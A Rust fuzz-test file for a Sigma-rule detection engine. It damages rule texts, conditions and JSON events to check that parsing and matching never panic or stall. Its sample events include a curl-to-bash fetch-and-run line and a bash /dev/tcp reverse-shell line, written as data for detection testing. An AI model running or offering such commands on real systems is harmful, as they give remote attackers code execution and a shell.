//! Hostile texts: rules, conditions and events made by damaging good ones, for a time. Nothing may panic, and nothing may
//! take a second of processor time.
//!
//! `BEFFROI_FUZZ_SECONDS` is the time for each of the three (`make fuzz` takes 60, otherwise it is short), and
//! `BEFFROI_FUZZ_SEED` where chance begins; it is printed, so a failure can be repeated. The input that failed is in the
//! message. No coverage guides it: a compiler that could is not required to build this.
#![allow(missing_docs, clippy::unwrap_used, reason = "tests")]

mod made;

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::Path;
use std::time::{Duration, Instant};

use beffroi_engine::eval::{Frame, Judge, Scratch, fill_from_text};
use beffroi_engine::{Detector, RuleSet, SigmaDetector, compile};
use beffroi_schema::Event;
use made::processor_time;

/// Processor time that no input may take.
const LIMIT: Duration = Duration::from_secs(1);
/// Bytes of an input at most: what a rule file may hold is tried by its own tests.
const MAX_INPUT: usize = 64 * 1024;
/// Pieces that grammars are made of.
const PIECES: [&str; 40] = [
    "|contains",
    "|re",
    "|all",
    "|base64offset",
    "|wide",
    "|cidr",
    "|fieldref",
    "|expand",
    "|windash",
    "|exists",
    "|gt",
    "|cased",
    " and ",
    " or ",
    " not ",
    "1 of ",
    "all of ",
    "them",
    "(",
    ")",
    "*",
    "?",
    "\\",
    "\"",
    "'",
    "[",
    "]",
    "{",
    "}",
    ":",
    ",",
    "- ",
    "\n",
    "  ",
    "null",
    "18446744073709551616",
    "\u{e9}",
    "\u{0}",
    "%x%",
    "&a",
];

/// xorshift
struct Chance(u64);

impl Chance {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) as usize % end.max(1)
    }

    /// A damaged copy.
    fn damage(&mut self, good: &[u8], other: &[u8]) -> Vec<u8> {
        let mut bytes = good.to_vec();
        for _ in 0..=self.below(6) {
            let at = self.below(bytes.len() + 1);
            let end = (at + self.below(40)).min(bytes.len());
            match self.below(7) {
                0 if at < bytes.len() => bytes[at] ^= 1 << self.below(8),
                1 => drop(bytes.drain(at..end)),
                2 => drop(bytes.splice(at..at, bytes[at..end].to_vec())),
                3 => {
                    let from = self.below(other.len() + 1);
                    let to = (from + self.below(60)).min(other.len());
                    drop(bytes.splice(at..end, other[from..to].iter().copied()));
                }
                4 => {
                    let piece = PIECES[self.below(PIECES.len())].repeat(1 + self.below(50) * self.below(2) * self.below(20));
                    drop(bytes.splice(at..at, piece.into_bytes()));
                }
                _ => drop(bytes.splice(at..at, PIECES[self.below(PIECES.len())].bytes())),
            }
        }
        bytes.truncate(MAX_INPUT);
        bytes
    }
}

fn number(name: &str, otherwise: u64) -> u64 {
    std::env::var(name).ok().and_then(|text| text.parse().ok()).unwrap_or(otherwise)
}

/// Damages good inputs and tries them until the time is over.
fn fuzz(name: &str, good: &[Vec<u8>], mut one: impl FnMut(&[u8])) {
    let seconds = number("BEFFROI_FUZZ_SECONDS", 2);
    let seed = number("BEFFROI_FUZZ_SEED", 0x5eed);
    let mut chance = Chance(seed | 1);
    let (start, mut count, mut slowest) = (Instant::now(), 0u64, Duration::ZERO);
    while start.elapsed() < Duration::from_secs(seconds) {
        let (first, other) = (chance.below(good.len()), chance.below(good.len()));
        let input = chance.damage(&good[first], &good[other]);
        let before = processor_time();
        let ended = catch_unwind(AssertUnwindSafe(|| one(&input)));
        let taken = processor_time() - before;
        let shown = || String::from_utf8_lossy(&input).into_owned();
        assert!(ended.is_ok(), "{name}: seed {seed}, input {count} panics:\n{}", shown());
        assert!(taken < LIMIT, "{name}: seed {seed}, input {count} takes {taken:?}:\n{}", shown());
        (count, slowest) = (count + 1, slowest.max(taken));
    }
    eprintln!("{name}: {count} inputs in {seconds} s, seed {seed}, the slowest took {slowest:?}");
    assert!(count > 0);
}

fn rules() -> Vec<Vec<u8>> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../sigma");
    let files = walkdir::WalkDir::new(folder).sort_by_file_name().into_iter().filter_map(Result::ok);
    let rules = files.filter(|file| file.path().extension().is_some_and(|extension| extension == "yml"));
    let rules: Vec<Vec<u8>> = rules.map(|file| std::fs::read(file.path()).unwrap()).collect();
    assert!(!rules.is_empty());
    rules
}

fn detector() -> SigmaDetector {
    let texts = rules().into_iter().enumerate().map(|(place, text)| (format!("{place}.yml"), String::from_utf8(text).unwrap()));
    compile(&RuleSet::from_texts(texts).0).unwrap()
}

fn event() -> Event {
    let json = serde_json::json!({"category": "process_creation", "product": "linux", "Image": "/usr/bin/curl", "User": "root",
        "CommandLine": "curl -s http://x/y | bash", "ParentImage": "/usr/bin/java"});
    Event::from_json(&json, 0).unwrap()
}

#[test]
fn no_rule_text_panics_or_holds_anybody_up() {
    let event = event();
    fuzz("rule", &rules(), |input| {
        let text = String::from_utf8_lossy(input);
        let (set, _problems) = RuleSet::from_texts([("fuzz.yml", &text)]);
        let _either_verdict = compile(&set).unwrap().evaluate(&event);
    });
}

#[test]
fn a_rule_whose_modifiers_multiply_its_texts_is_refused_at_once() {
    let before = processor_time();
    for modifiers in ["|windash".repeat(21), "|windash".repeat(8), "|base64".repeat(100), "|base64offset".repeat(9)] {
        let text = format!(
            "title: t\nid: r\nlogsource: {{category: process_creation, product: linux}}\n\
             detection: {{a: {{CommandLine{modifiers}|contains: ' -a -b -c -d -e'}}, condition: a}}\n"
        );
        let (set, problems) = RuleSet::from_texts([("fuzz.yml", text)]);
        assert_eq!((set.rules().len(), problems.len()), (0, 1), "{problems:?}");
        assert!(problems[0].to_string().contains("invalid modifier combination"), "{}", problems[0]);
    }
    assert!(processor_time() - before < LIMIT);
}

#[test]
fn no_condition_panics_or_holds_anybody_up() {
    let good = ["a and not b", "1 of a* or all of them", "(a or b) and not (c or 2 of b*)", "not not a"];
    let good: Vec<Vec<u8>> = good.iter().map(|text| text.as_bytes().to_vec()).collect();
    let event = event();
    fuzz("condition", &good, |input| {
        let rule = serde_json::json!({"title": "t", "id": "r", "logsource": {"category": "process_creation", "product": "linux"},
            "detection": {"a": {"Image|endswith": "curl"}, "b": {"User": "root"}, "c": ["bash"],
                "condition": String::from_utf8_lossy(input)}});
        let (set, _problems) = RuleSet::from_texts([("fuzz.yml", rule.to_string())]);
        let _either_verdict = compile(&set).unwrap().evaluate(&event);
    });
}

#[test]
fn no_event_text_panics_or_holds_anybody_up() {
    let detector = detector();
    let mut builder = beffroi_engine::eval::Builder::default();
    for text in rules() {
        let parsed = rsigma_parser::parse_sigma_yaml(&String::from_utf8(text).unwrap()).map(|set| set.rules).unwrap_or_default();
        parsed.iter().for_each(|rule| _ = builder.add(rule));
    }
    let program = builder.finish();
    let judge = Judge::new(&program, &(0..program.rules.len()).collect::<Vec<_>>()).unwrap();
    let wanted = judge.all().wanted();
    let mut scratch = Scratch::default();
    let good = [
        serde_json::Value::Object(event().to_json()).to_string(),
        r#"{"EventID":1,"Image":"C:\\Windows\\\u00e9\ud83d\ude00","list":["a",1,-2.5e3,null,true],"tree":{"a":[{"b":"]"}]}}"#
            .into(),
        r#"{"category":"process_creation","product":"linux","CommandLine":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#.into(),
    ];
    let good: Vec<Vec<u8>> = good.iter().map(|text| text.as_bytes().to_vec()).collect();
    let mut kept = Frame::new(&program.names);
    fuzz("event", &good, |input| {
        let mut frame = std::mem::take(&mut kept).recycle_for(&program.names);
        if fill_from_text(&mut frame, &program.names, wanted, input).is_ok() {
            let _either_verdict = judge.matches(&program, &frame, &mut scratch).len();
        }
        kept = frame.recycle();
        if let Ok(json) = serde_json::from_slice(input)
            && let Ok(event) = Event::from_json(&json, 0)
        {
            let _either_verdict = detector.evaluate(&event);
        }
    });
    assert_eq!(detector.panics(), 0);
}
